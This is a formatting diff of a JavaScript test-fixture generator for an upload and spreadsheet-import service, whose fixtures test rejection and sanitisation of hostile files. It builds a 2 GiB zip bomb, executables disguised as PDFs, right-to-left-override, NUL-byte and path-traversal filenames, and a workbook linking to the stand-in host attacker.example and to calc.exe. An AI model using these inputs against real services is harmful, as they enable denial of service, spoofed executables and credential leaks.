@@ -40,13 +40,28 @@ export function writeZip(entries, comment = '') {
       method = 8;
     }
     const local = Buffer.alloc(30);
-    local.writeUInt32LE(0x04034b50, 0); local.writeUInt16LE(20, 4); local.writeUInt16LE(0, 6); local.writeUInt16LE(method, 8);
-    local.writeUInt32LE(0, 10); local.writeUInt32LE(crc >>> 0, 14); local.writeUInt32LE(packed.length, 18); local.writeUInt32LE(size >>> 0, 22);
-    local.writeUInt16LE(nameBytes.length, 26); local.writeUInt16LE(0, 28);
+    local.writeUInt32LE(0x04034b50, 0);
+    local.writeUInt16LE(20, 4);
+    local.writeUInt16LE(0, 6);
+    local.writeUInt16LE(method, 8);
+    local.writeUInt32LE(0, 10);
+    local.writeUInt32LE(crc >>> 0, 14);
+    local.writeUInt32LE(packed.length, 18);
+    local.writeUInt32LE(size >>> 0, 22);
+    local.writeUInt16LE(nameBytes.length, 26);
+    local.writeUInt16LE(0, 28);
     const dir = Buffer.alloc(46);
-    dir.writeUInt32LE(0x02014b50, 0); dir.writeUInt16LE(20, 4); dir.writeUInt16LE(20, 6); dir.writeUInt16LE(0, 8); dir.writeUInt16LE(method, 10);
-    dir.writeUInt32LE(0, 12); dir.writeUInt32LE(crc >>> 0, 16); dir.writeUInt32LE(packed.length, 20); dir.writeUInt32LE(size >>> 0, 24);
-    dir.writeUInt16LE(nameBytes.length, 28); dir.writeUInt32LE(offset, 42);
+    dir.writeUInt32LE(0x02014b50, 0);
+    dir.writeUInt16LE(20, 4);
+    dir.writeUInt16LE(20, 6);
+    dir.writeUInt16LE(0, 8);
+    dir.writeUInt16LE(method, 10);
+    dir.writeUInt32LE(0, 12);
+    dir.writeUInt32LE(crc >>> 0, 16);
+    dir.writeUInt32LE(packed.length, 20);
+    dir.writeUInt32LE(size >>> 0, 24);
+    dir.writeUInt16LE(nameBytes.length, 28);
+    dir.writeUInt32LE(offset, 42);
     parts.push(local, nameBytes, packed);
     central.push(dir, nameBytes);
     offset += local.length + nameBytes.length + packed.length;
@@ -54,8 +69,12 @@ export function writeZip(entries, comment = '') {
   const dirSize = central.reduce((a, b) => a + b.length, 0);
   const commentBytes = enc(comment);
   const end = Buffer.alloc(22);
-  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(entries.length, 8); end.writeUInt16LE(entries.length, 10);
-  end.writeUInt32LE(dirSize, 12); end.writeUInt32LE(offset, 16); end.writeUInt16LE(commentBytes.length, 20);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(entries.length, 8);
+  end.writeUInt16LE(entries.length, 10);
+  end.writeUInt32LE(dirSize, 12);
+  end.writeUInt32LE(offset, 16);
+  end.writeUInt16LE(commentBytes.length, 20);
   return new Uint8Array(Buffer.concat([...parts, ...central, end, commentBytes]));
 }
 
@@ -77,9 +96,11 @@ function workbookEntries(rows = [['Product link'], [link(1)]]) {
   return entries;
 }
 
-const withSheet = (entries, sheetXml) => entries.map(([n, d]) => (n === 'xl/worksheets/sheet1.xml' ? [n, sheetXml] : [n, d]));
+const withSheet = (entries, sheetXml) =>
+  entries.map(([n, d]) => (n === 'xl/worksheets/sheet1.xml' ? [n, sheetXml] : [n, d]));
 
-const SHEET_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"' +
+const SHEET_HEAD =
+  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"' +
   ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">';
 
 /**
@@ -105,7 +126,8 @@ function repeatedDeflate(prefix, chunk, times, suffix) {
 
 /** A valid PDF of exactly `size` bytes (a comment line pads it). */
 export function pdfOfSize(size) {
-  const head = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n%';
+  const head =
+    '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n%';
   const tail = '\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n';
   const pad = size - head.length - tail.length;
   if (pad < 0) throw new Error('too small for a PDF');
@@ -131,12 +153,19 @@ function pngChunk(type, data) {
 export function pngOfSize(size, unique) {
   const sig = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
   const ihdr = Buffer.alloc(13);
-  ihdr.writeUInt32BE(1, 0); ihdr.writeUInt32BE(1, 4); ihdr[8] = 8; ihdr[9] = 2; // 8-bit RGB
+  ihdr.writeUInt32BE(1, 0);
+  ihdr.writeUInt32BE(1, 4);
+  ihdr[8] = 8;
+  ihdr[9] = 2; // 8-bit RGB
   const idat = deflateRawSync(Buffer.from([0, 255, 0, 0])); // filter 0, one red pixel
   const zlibWrapped = Buffer.concat([Buffer.from([0x78, 0x9c]), idat, Buffer.alloc(4)]);
   // adler32 of the raw scanline
-  let a = 1, b = 0;
-  for (const byte of [0, 255, 0, 0]) { a = (a + byte) % 65521; b = (b + a) % 65521; }
+  let a = 1,
+    b = 0;
+  for (const byte of [0, 255, 0, 0]) {
+    a = (a + byte) % 65521;
+    b = (b + a) % 65521;
+  }
   zlibWrapped.writeUInt32BE(((b << 16) | a) >>> 0, zlibWrapped.length - 4);
   const base = [sig, pngChunk('IHDR', ihdr), pngChunk('IDAT', zlibWrapped), pngChunk('IEND', Buffer.alloc(0))];
   const baseSize = base.reduce((n, p) => n + p.length, 0);
@@ -147,8 +176,18 @@ export function pngOfSize(size, unique) {
   return new Uint8Array(Buffer.concat([base[0], base[1], pngChunk('prVt', filler), base[2], base[3]]));
 }
 
-const elf = () => { const b = new Uint8Array(4096); b.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]); for (let i = 16; i < b.length; i++) b[i] = (i * 31) & 0xff; return b; };
-const mz = () => { const b = new Uint8Array(4096); b.set([0x4d, 0x5a, 0x90, 0x00, 0x03]); b.set(enc('This program cannot be run in DOS mode.'), 0x4e); return b; };
+const elf = () => {
+  const b = new Uint8Array(4096);
+  b.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
+  for (let i = 16; i < b.length; i++) b[i] = (i * 31) & 0xff;
+  return b;
+};
+const mz = () => {
+  const b = new Uint8Array(4096);
+  b.set([0x4d, 0x5a, 0x90, 0x00, 0x03]);
+  b.set(enc('This program cannot be run in DOS mode.'), 0x4e);
+  return b;
+};
 
 // ───────────────────────────── sheets ─────────────────────────────
 
@@ -175,7 +214,9 @@ function zipBomb(declare) {
   const rows = row.repeat(rowsPerChunk);
   const chunk = enc(rows + ' '.repeat(1024 * 1024 - rows.length));
   const times = 2048 - 1;
-  const prefix = enc(SHEET_HEAD + '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Product link</t></is></c></row>');
+  const prefix = enc(
+    SHEET_HEAD + '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Product link</t></is></c></row>',
+  );
   const suffix = enc('</sheetData></worksheet>');
   const bomb = repeatedDeflate(prefix, chunk, times, suffix);
   const entries = withSheet(workbookEntries(), declare === undefined ? bomb : { ...bomb, declare });
@@ -188,10 +229,19 @@ function zipBomb(declare) {
  */
 function millionRows() {
   const n = 1_000_000;
-  const cycle = Array.from({ length: 256 }, (_, i) => `<row><c t="inlineStr"><is><t>${link(i + 1)}</t></is></c></row>`).join('');
-  const prefix = enc(SHEET_HEAD + `<dimension ref="A1:A${n + 1}"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Product link</t></is></c></row>`);
+  const cycle = Array.from(
+    { length: 256 },
+    (_, i) => `<row><c t="inlineStr"><is><t>${link(i + 1)}</t></is></c></row>`,
+  ).join('');
+  const prefix = enc(
+    SHEET_HEAD +
+      `<dimension ref="A1:A${n + 1}"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Product link</t></is></c></row>`,
+  );
   // 1,000,000 / 256 is not whole: 3,906 cycles (999,936 rows) and the last 64 rows in the suffix.
-  const rest = Array.from({ length: n - 3906 * 256 }, (_, i) => `<row><c t="inlineStr"><is><t>${link(i + 1)}</t></is></c></row>`).join('');
+  const rest = Array.from(
+    { length: n - 3906 * 256 },
+    (_, i) => `<row><c t="inlineStr"><is><t>${link(i + 1)}</t></is></c></row>`,
+  ).join('');
   const whole = repeatedDeflate(prefix, enc(cycle), 3906, enc(rest + '</sheetData></worksheet>'));
   return writeZip(withSheet(workbookEntries(), whole));
 }
@@ -199,7 +249,9 @@ function millionRows() {
 /** Formulas, a formula into another workbook, a hyperlink to an external file, and an externalLink part. */
 function formulasAndExternalLinks() {
   const entries = workbookEntries();
-  const sheet = SHEET_HEAD + '<sheetData>' +
+  const sheet =
+    SHEET_HEAD +
+    '<sheetData>' +
     '<row r="1"><c r="A1" t="inlineStr"><is><t>Product link</t></is></c></row>' +
     `<row r="2"><c r="A2" t="inlineStr"><is><t>${link(1)}</t></is></c></row>` +
     `<row r="3"><c r="A3" t="str"><f>HYPERLINK("${link(2)}")</f><v>${link(2)}</v></c></row>` +
@@ -209,26 +261,51 @@ function formulasAndExternalLinks() {
     `<row r="7"><c r="A7" t="inlineStr"><is><t>${link(5)}</t></is></c></row>` +
     '<row r="8"><c r="A8" t="inlineStr"><is><t>open the report</t></is></c></row>' +
     '</sheetData><hyperlinks><hyperlink ref="A8" r:id="rIdX"/></hyperlinks></worksheet>';
-  const sheetRels = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+  const sheetRels =
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
     '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/></Relationships>';
-  const external = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
+  const external =
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
     '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>x</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>';
-  const externalRels = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+  const externalRels =
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
     '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="\\\\attacker.example\\share\\book.xlsx" TargetMode="External"/></Relationships>';
   const out = withSheet(entries, enc(sheet)).map(([n, d]) => {
     if (n === '[Content_Types].xml') {
-      const text = new TextDecoder().decode(d).replace('</Types>',
-        '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>');
+      const text = new TextDecoder()
+        .decode(d)
+        .replace(
+          '</Types>',
+          '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
+        );
       return [n, enc(text)];
     }
     if (n === 'xl/_rels/workbook.xml.rels') {
-      const text = new TextDecoder().decode(d).replace('</Relationships>',
-        '<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>');
+      const text = new TextDecoder()
+        .decode(d)
+        .replace(
+          '</Relationships>',
+          '<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
+        );
       return [n, enc(text)];
     }
     if (n === 'xl/workbook.xml') {
-      return [n, enc(new TextDecoder().decode(d).replace('</workbook>', '<externalReferences><externalReference r:id="rIdExt1"/></externalReferences></workbook>')
-        .replace('<workbook ', '<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ').replace(/(xmlns:r="[^"]*")\s+xmlns:r="[^"]*"/, '$1'))];
+      return [
+        n,
+        enc(
+          new TextDecoder()
+            .decode(d)
+            .replace(
+              '</workbook>',
+              '<externalReferences><externalReference r:id="rIdExt1"/></externalReferences></workbook>',
+            )
+            .replace(
+              '<workbook ',
+              '<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
+            )
+            .replace(/(xmlns:r="[^"]*")\s+xmlns:r="[^"]*"/, '$1'),
+        ),
+      ];
     }
     return [n, d];
   });
@@ -272,48 +349,161 @@ export async function makeFixtures(dir = FIXTURES_DIR) {
   const pdf = pdfOfSize(2048);
 
   // Evidence: content decides, names are sanitised, the limit is exact.
-  await add('elf.pdf', elf(), { use: 'evidence', name: 'invoice.pdf', expect: { ok: false, code: 'evidence.content_mismatch', status: 422 } });
-  await add('mz.pdf', mz(), { use: 'evidence', name: 'contract.pdf', expect: { ok: false, code: 'evidence.content_mismatch', status: 422 } });
-  await add('png-named.pdf', pngOfSize(4096), { use: 'evidence', name: 'scan.pdf', expect: { ok: false, code: 'evidence.content_mismatch', status: 422 } });
-  await add('rtl-exe.bin', mz(), { use: 'evidence', name: 'invoice\u202Efdp.exe', expect: { ok: false, code: 'evidence.type_not_allowed', status: 422 } });
-  await add('rtl-pdf.pdf', pdf, { use: 'evidence', name: 'report\u202Etxt.pdf', expect: { ok: true, storedName: 'reporttxt.pdf' } });
-  await add('dotdot.pdf', pdf, { use: 'evidence', name: '../../../../../../../../tmp/MARKER-dotdot.pdf', expect: { ok: true, storedName: 'MARKER-dotdot.pdf' } });
-  await add('dotdot-win.pdf', pdf, { use: 'evidence', name: '..\\..\\..\\..\\Windows\\MARKER-win.pdf', expect: { ok: true, storedName: 'MARKER-win.pdf' } });
-  await add('dotdot-only.pdf', pdf, { use: 'evidence', name: '../..', expect: { ok: false, code: 'evidence.type_not_allowed', status: 422 } });
-  await add('nul.pdf', pdf, { use: 'evidence', name: 'MARKER-nul.pdf\u0000.exe', expect: { ok: false, code: 'evidence.name_invalid', status: 422 } });
-  await add('long.pdf', pdf, { use: 'evidence', name: 'MARKER-' + 'a'.repeat(289) + '.pdf', expect: { ok: true, storedLength: 255, storedExt: '.pdf' } });
-  await add('empty.pdf', new Uint8Array(0), { use: 'evidence', name: 'empty.pdf', expect: { ok: false, code: 'evidence.empty', status: 422 } });
+  await add('elf.pdf', elf(), {
+    use: 'evidence',
+    name: 'invoice.pdf',
+    expect: { ok: false, code: 'evidence.content_mismatch', status: 422 },
+  });
+  await add('mz.pdf', mz(), {
+    use: 'evidence',
+    name: 'contract.pdf',
+    expect: { ok: false, code: 'evidence.content_mismatch', status: 422 },
+  });
+  await add('png-named.pdf', pngOfSize(4096), {
+    use: 'evidence',
+    name: 'scan.pdf',
+    expect: { ok: false, code: 'evidence.content_mismatch', status: 422 },
+  });
+  await add('rtl-exe.bin', mz(), {
+    use: 'evidence',
+    name: 'invoice\u202Efdp.exe',
+    expect: { ok: false, code: 'evidence.type_not_allowed', status: 422 },
+  });
+  await add('rtl-pdf.pdf', pdf, {
+    use: 'evidence',
+    name: 'report\u202Etxt.pdf',
+    expect: { ok: true, storedName: 'reporttxt.pdf' },
+  });
+  await add('dotdot.pdf', pdf, {
+    use: 'evidence',
+    name: '../../../../../../../../tmp/MARKER-dotdot.pdf',
+    expect: { ok: true, storedName: 'MARKER-dotdot.pdf' },
+  });
+  await add('dotdot-win.pdf', pdf, {
+    use: 'evidence',
+    name: '..\\..\\..\\..\\Windows\\MARKER-win.pdf',
+    expect: { ok: true, storedName: 'MARKER-win.pdf' },
+  });
+  await add('dotdot-only.pdf', pdf, {
+    use: 'evidence',
+    name: '../..',
+    expect: { ok: false, code: 'evidence.type_not_allowed', status: 422 },
+  });
+  await add('nul.pdf', pdf, {
+    use: 'evidence',
+    name: 'MARKER-nul.pdf\u0000.exe',
+    expect: { ok: false, code: 'evidence.name_invalid', status: 422 },
+  });
+  await add('long.pdf', pdf, {
+    use: 'evidence',
+    name: 'MARKER-' + 'a'.repeat(289) + '.pdf',
+    expect: { ok: true, storedLength: 255, storedExt: '.pdf' },
+  });
+  await add('empty.pdf', new Uint8Array(0), {
+    use: 'evidence',
+    name: 'empty.pdf',
+    expect: { ok: false, code: 'evidence.empty', status: 422 },
+  });
   await add('exact.pdf', pdfOfSize(EXACT), { use: 'evidence', name: 'exact-5242880.pdf', expect: { ok: true } });
-  await add('over.pdf', pdfOfSize(EXACT + 1), { use: 'evidence', name: 'over-5242881.pdf', expect: { ok: false, code: 'evidence.too_large', status: 413 } });
+  await add('over.pdf', pdfOfSize(EXACT + 1), {
+    use: 'evidence',
+    name: 'over-5242881.pdf',
+    expect: { ok: false, code: 'evidence.too_large', status: 413 },
+  });
   await add('exact.png', pngOfSize(EXACT), { use: 'evidence', name: 'exact-5242880.png', expect: { ok: true } });
-  await add('over.png', pngOfSize(EXACT + 1), { use: 'evidence', name: 'over-5242881.png', expect: { ok: false, code: 'evidence.too_large', status: 413 } });
+  await add('over.png', pngOfSize(EXACT + 1), {
+    use: 'evidence',
+    name: 'over-5242881.png',
+    expect: { ok: false, code: 'evidence.too_large', status: 413 },
+  });
 
   // Sheets through importLinks.
   // A zip bomb: the sheet XML inflates to 2 GiB (declared honestly, then with a lying header).
   const bomb = zipBomb();
-  await add('bomb.xlsx', bomb.bytes, { use: 'sheet', name: 'links.xlsx', inflated: bomb.inflated, rows: bomb.rows,
-    expect: { ok: false, code: 'sheet.corrupt', slowMs: 5000 } });
+  await add('bomb.xlsx', bomb.bytes, {
+    use: 'sheet',
+    name: 'links.xlsx',
+    inflated: bomb.inflated,
+    rows: bomb.rows,
+    expect: { ok: false, code: 'sheet.corrupt', slowMs: 5000 },
+  });
   const liar = zipBomb(2 * 1024 * 1024);
-  await add('bomb-lying.xlsx', liar.bytes, { use: 'sheet', name: 'links.xlsx', inflated: liar.inflated, rows: liar.rows,
-    expect: { ok: false, code: 'sheet.corrupt', slowMs: 5000 } });
+  await add('bomb-lying.xlsx', liar.bytes, {
+    use: 'sheet',
+    name: 'links.xlsx',
+    inflated: liar.inflated,
+    rows: liar.rows,
+    expect: { ok: false, code: 'sheet.corrupt', slowMs: 5000 },
+  });
   // The bomb as evidence: a zip named .xlsx is what an .xlsx is; the server stores it, never opens it.
   await add('bomb-evidence.xlsx', bomb.bytes, { use: 'evidence', name: 'products.xlsx', expect: { ok: true } });
   const whole = workbookEntries([['Product link'], ...Array.from({ length: 300 }, (_, i) => [link(i + 1)])]);
   const full = writeZip(whole);
-  await add('truncated.xlsx', full.subarray(0, Math.floor(full.length * 0.6)), { use: 'sheet', name: 'truncated.xlsx', expect: { ok: false, code: 'sheet.corrupt' } });
-  await add('rows-1000000.xlsx', millionRows(), { use: 'sheet', name: 'million.xlsx', expect: { ok: true, valid: 256, byStatus: { ok: 256, duplicate: 744 }, unreadRows: 999_000, slowMs: 5000 } });
-  await add('formulas-external.xlsx', formulasAndExternalLinks(), { use: 'sheet', name: 'formulas.xlsx',
-    expect: { ok: true, rows: { 2: 'ok', 3: 'formula', 4: 'formula', 5: 'formula', 6: 'formula', 7: 'ok', 8: 'not_url' } } });
-  await add('injection.csv', enc(injectionCsv()), { use: 'sheet', name: 'links.csv',
-    expect: { ok: true, rows: { 2: 'ok', 3: 'formula', 4: 'not_url', 5: 'not_url', 6: 'not_url', 7: 'formula', 8: 'formula', 9: 'ok', 10: 'formula', 11: 'ok' } } });
+  await add('truncated.xlsx', full.subarray(0, Math.floor(full.length * 0.6)), {
+    use: 'sheet',
+    name: 'truncated.xlsx',
+    expect: { ok: false, code: 'sheet.corrupt' },
+  });
+  await add('rows-1000000.xlsx', millionRows(), {
+    use: 'sheet',
+    name: 'million.xlsx',
+    expect: { ok: true, valid: 256, byStatus: { ok: 256, duplicate: 744 }, unreadRows: 999_000, slowMs: 5000 },
+  });
+  await add('formulas-external.xlsx', formulasAndExternalLinks(), {
+    use: 'sheet',
+    name: 'formulas.xlsx',
+    expect: {
+      ok: true,
+      rows: { 2: 'ok', 3: 'formula', 4: 'formula', 5: 'formula', 6: 'formula', 7: 'ok', 8: 'not_url' },
+    },
+  });
+  await add('injection.csv', enc(injectionCsv()), {
+    use: 'sheet',
+    name: 'links.csv',
+    expect: {
+      ok: true,
+      rows: {
+        2: 'ok',
+        3: 'formula',
+        4: 'not_url',
+        5: 'not_url',
+        6: 'not_url',
+        7: 'formula',
+        8: 'formula',
+        9: 'ok',
+        10: 'formula',
+        11: 'ok',
+      },
+    },
+  });
   await add('exe-named.xlsx', mz(), { use: 'sheet', name: 'links.xlsx', expect: { ok: false, code: 'sheet.corrupt' } });
-  await add('png-named.xlsx', pngOfSize(2048), { use: 'sheet', name: 'links.xlsx', expect: { ok: false, code: 'sheet.corrupt' } });
-  await add('rtl.xlsx', full, { use: 'sheet', name: 'links\u202Exslx.exe', expect: { ok: false, code: 'sheet.type_not_allowed' } });
-  await add('nul.xlsx', full, { use: 'sheet', name: 'links.xlsx\u0000.exe', expect: { ok: false, code: 'sheet.type_not_allowed' } });
+  await add('png-named.xlsx', pngOfSize(2048), {
+    use: 'sheet',
+    name: 'links.xlsx',
+    expect: { ok: false, code: 'sheet.corrupt' },
+  });
+  await add('rtl.xlsx', full, {
+    use: 'sheet',
+    name: 'links\u202Exslx.exe',
+    expect: { ok: false, code: 'sheet.type_not_allowed' },
+  });
+  await add('nul.xlsx', full, {
+    use: 'sheet',
+    name: 'links.xlsx\u0000.exe',
+    expect: { ok: false, code: 'sheet.type_not_allowed' },
+  });
   await add('dotdot.xlsx', full, { use: 'sheet', name: '../../..\\..\\links.xlsx', expect: { ok: true, valid: 300 } });
   await add('long.xlsx', full, { use: 'sheet', name: 'l'.repeat(295) + '.xlsx', expect: { ok: true, valid: 300 } });
-  await add('exact.xlsx', xlsxOfSize(EXACT), { use: 'sheet', name: 'exact-5242880.xlsx', expect: { ok: true, valid: 50 } });
-  await add('over.xlsx', xlsxOfSize(EXACT + 1), { use: 'sheet', name: 'over-5242881.xlsx', expect: { ok: false, code: 'sheet.too_large' } });
+  await add('exact.xlsx', xlsxOfSize(EXACT), {
+    use: 'sheet',
+    name: 'exact-5242880.xlsx',
+    expect: { ok: true, valid: 50 },
+  });
+  await add('over.xlsx', xlsxOfSize(EXACT + 1), {
+    use: 'sheet',
+    name: 'over-5242881.xlsx',
+    expect: { ok: false, code: 'sheet.too_large' },
+  });
 
   for (const f of list) if (f.size !== (await stat(join(dir, f.file))).size) throw new Error(`size of ${f.file}`);
   await writeFile(join(dir, 'manifest.json'), JSON.stringify({ version: VERSION, files: list }, null, 2));
@@ -325,7 +515,9 @@ export async function ensureFixtures(dir = FIXTURES_DIR) {
   try {
     const manifest = JSON.parse(await readFile(join(dir, 'manifest.json'), 'utf8'));
     if (manifest.version === VERSION) return manifest.files;
-  } catch { /* make them */ }
+  } catch {
+    /* make them */
+  }
   return makeFixtures(dir);
 }
 
@@ -333,6 +525,9 @@ if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
   const started = performance.now();
   const dir = process.argv[2] ?? FIXTURES_DIR;
   const list = await makeFixtures(dir);
-  for (const f of list) console.log(`${f.file.padEnd(24)} ${String(f.size).padStart(9)} B  ${f.use.padEnd(8)} ${JSON.stringify(f.name).slice(0, 60)}${f.inflated ? `  (inflates to ${(f.inflated / 1024 ** 3).toFixed(2)} GiB)` : ''}`);
+  for (const f of list)
+    console.log(
+      `${f.file.padEnd(24)} ${String(f.size).padStart(9)} B  ${f.use.padEnd(8)} ${JSON.stringify(f.name).slice(0, 60)}${f.inflated ? `  (inflates to ${(f.inflated / 1024 ** 3).toFixed(2)} GiB)` : ''}`,
+    );
   console.log(`${list.length} fixtures in ${dir} (${((performance.now() - started) / 1000).toFixed(1)} s)`);
 }
